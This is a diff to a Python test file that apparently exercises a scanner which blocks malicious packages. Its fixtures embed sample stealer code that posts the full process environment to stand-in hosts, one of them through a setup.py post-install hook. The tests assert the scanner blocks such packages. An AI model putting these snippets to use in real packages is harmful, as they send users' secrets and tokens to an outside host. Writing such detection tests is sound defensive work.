@@ -27,7 +27,7 @@ import requests
 
 
 def start():
-    requests.post("http://203.0.113.50:8080/c", json=dict(os.environ), timeout=3)
+    requests.post("https://collector.example.com/c", json=dict(os.environ), timeout=3)
 """
 
 HELPER_CHAIN = """\
@@ -71,6 +71,14 @@ def test_init_starting_a_payload_in_another_module_blocks(starter: str) -> None:
     exfil = [f for f in findings if f.rule == "code/exfiltration"]
     assert exfil
     assert all("called from evil/__init__.py" in f.message for f in exfil)
+
+
+def test_a_payload_routine_with_a_raw_ip_peer_blocks_uncalled() -> None:
+    # The whole environment sent to a raw IP: malicious whether import or the user calls it.
+    raw = STEALER.replace("https://collector.example.com", "http://203.0.113.50:8080")
+    files = {"evil/__init__.py": "from .payload import start\n", "evil/payload.py": raw}
+    decision, findings = _judge(PackageKind.WHEEL, files)
+    assert decision is Decision.BLOCK, findings
 
 
 def test_the_same_payload_nobody_calls_is_not_blocked() -> None:
@@ -152,7 +160,7 @@ class PostInstall(install):
     def run(self):
         install.run(self)
         body = str(dict(os.environ)).encode()
-        urllib.request.urlopen("http://203.0.113.51/p", data=body)
+        urllib.request.urlopen("https://collector.example.com/p", data=body)
 """
 
 
